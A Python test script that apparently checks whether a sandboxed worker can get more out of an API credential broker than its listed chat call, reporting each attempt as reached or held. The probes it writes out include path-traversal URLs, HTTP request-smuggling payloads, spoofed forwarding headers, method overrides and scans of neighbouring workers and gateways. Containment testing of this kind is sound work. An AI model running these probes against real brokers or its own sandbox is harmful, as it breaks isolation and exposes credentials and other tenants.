"""Try to get more out of a credential broker than the listed calls; print a line for each attempt.

`NAME: reached` if the attempt succeeded, else `NAME: held`. Names that begin with `control` are
listed calls, made in the same way. Arguments: address and port of the model's API.
"""

import os
import socket
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

API, PORT = sys.argv[1], int(sys.argv[2])
BROKER = urlsplit(os.environ["OPENAI_BASE_URL"])
HOST, TOKEN = str(BROKER.hostname), os.environ["OPENAI_API_KEY"]
BODY = '{"model": "gpt-4o", "messages": []}'
LISTENING = 9999
"""Port of the other worker on which a server listens."""
TIMEOUT = 4
ATTEMPTS: dict[str, Callable[[], bool]] = {}


def send(data: str, *, host: str = HOST, port: int = BROKER.port or 0) -> str:
    """Send bytes, and return everything that is answered."""
    found = b""
    with socket.create_connection((host, port), TIMEOUT) as connection:
        connection.sendall(data.encode("latin-1"))
        try:
            while piece := connection.recv(65536):
                found += piece
        except TimeoutError:
            pass
    return found.decode("latin-1")


def request(
    path: str, *headers: str, method: str = "POST", token: str = TOKEN, body: str = BODY
) -> str:
    """Return the text of a request."""
    lines = (
        f"{method} {path} HTTP/1.1", f"Host: {HOST}", f"Authorization: Bearer {token}",
        f"Content-Length: {len(body)}", "Connection: close", *headers,
    )  # fmt: skip
    return "\r\n".join([*lines, "", body])


def succeeds(text: str) -> Callable[[], bool]:
    """Return an attempt that succeeds if an API's answer comes back."""
    return lambda: "from the API" in send(text)


def connects(host: str, port: int) -> Callable[[], bool]:
    """Return an attempt that succeeds if a connection is opened."""

    def opens() -> bool:
        with socket.create_connection((host, port), TIMEOUT):
            return True

    return opens


def neighbours() -> list[str]:
    """Return the addresses around all of this worker's own and around the broker's."""
    own = (word.partition("/")[0] for word in Path("/proc/net/fib_trie").read_text().split())
    found = {one for one in own if one.startswith("198.18.") or one.startswith("198.19.")}
    found.add(socket.gethostbyname(HOST))
    around = []
    for address in found:
        start, _, last = address.rpartition(".")
        around += [f"{start}.{int(last) + step}" for step in range(-4, 5) if int(last) + step > 0]
    return list(dict.fromkeys(around))


CHAT = "/openai/v1/chat/completions"
ATTEMPTS["control: listed call"] = succeeds(request(CHAT))
for path in (
    "/openai/v1/files", "/openai/v1/batches", "/openai/v1/organization/admin_api_keys",
    "/openai/v1/chat/completions/../../files", "/openai/v1/chat/completions%2f..%2ffiles",
    "/openai/v1/chat/completions/..%2f..%2ffiles", "//openai/v1/files", "/openai/v1/./files",
    "/openai/v1/files#/chat/completions", "/openai/v1/files?/v1/chat/completions",
    "/openai/v1/files;/chat/completions", "/openai/v1/files\\chat\\completions",
    "/anthropic/v1/messages", "/api/v1/chat/completions", "/",
):  # fmt: skip
    ATTEMPTS[f"call {path}"] = succeeds(request(path))
for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "X"):
    ATTEMPTS[f"method {method}"] = succeeds(request("/openai/v1/files", method=method))
ATTEMPTS["absolute form"] = succeeds(request(f"http://{API}:{PORT}/v1/files"))
ATTEMPTS["connect to the API"] = succeeds(request(f"{API}:{PORT}", method="CONNECT"))
ATTEMPTS["method override"] = succeeds(
    request("/openai/v1/files", "X-HTTP-Method-Override: GET", "X-Original-URL: " + CHAT)
)
ATTEMPTS["upgrade to a websocket"] = succeeds(
    request("/openai/v1/realtime", "Upgrade: websocket", "Connection: Upgrade", method="GET")
)
ATTEMPTS["upgrade to HTTP/2"] = succeeds(
    request("/openai/v1/files", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__")
)
for name, token in {
    "none": "",
    "another": "sk-ant-gateway-" + "0" * 48,
    "long": "x" * 9000,
}.items():
    ATTEMPTS[f"token: {name}"] = succeeds(request(CHAT, token=token))
for name in ("X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Orchestrator-Worker"):
    ATTEMPTS[f"address of another: {name}"] = succeeds(
        request(CHAT, f"{name}: 198.18.0.3", token="x")
    )
inner = request("/openai/v1/files", method="GET", body="")
ATTEMPTS["smuggled: length and chunks"] = succeeds(
    f"POST {CHAT} HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer x\r\n"
    f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
)
ATTEMPTS["smuggled: two lengths"] = succeeds(
    f"POST {CHAT} HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer x\r\n"
    f"Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
)
ATTEMPTS["smuggled: bare line feeds"] = succeeds(
    f"GET /openai/v1/models HTTP/1.1\nHost: {HOST}\nX: y\n\n{inner}"
)
ATTEMPTS["second request on a connection"] = succeeds(
    request("/openai/v1/files", method="GET", body="").replace("Connection: close\r\n", "") + inner
)
ATTEMPTS["the API itself"] = connects(API, PORT)
for port in (22, 80, 443, 8081, 2375):
    ATTEMPTS[f"another port of the broker: {port}"] = connects(HOST, port)


def asks(address: str) -> Callable[[], bool]:
    """Return an attempt that makes a listed call at the address of another gateway."""
    return lambda: (
        address != socket.gethostbyname(HOST)
        and "from the API" in send(request(CHAT), host=address)
    )


for address in neighbours():
    ATTEMPTS[f"another worker: {address}"] = connects(address, LISTENING)
    ATTEMPTS[f"another gateway: {address}"] = asks(address)


def outcome(name: str) -> str:
    """Return the line of an attempt."""
    try:
        reached = ATTEMPTS[name]()
    except (OSError, ValueError):
        reached = False
    return f"{name}: {'reached' if reached else 'held'}"


if __name__ == "__main__":
    with ThreadPoolExecutor(8) as pool:
        sys.stdout.write("\n".join([*pool.map(outcome, ATTEMPTS), ""]))
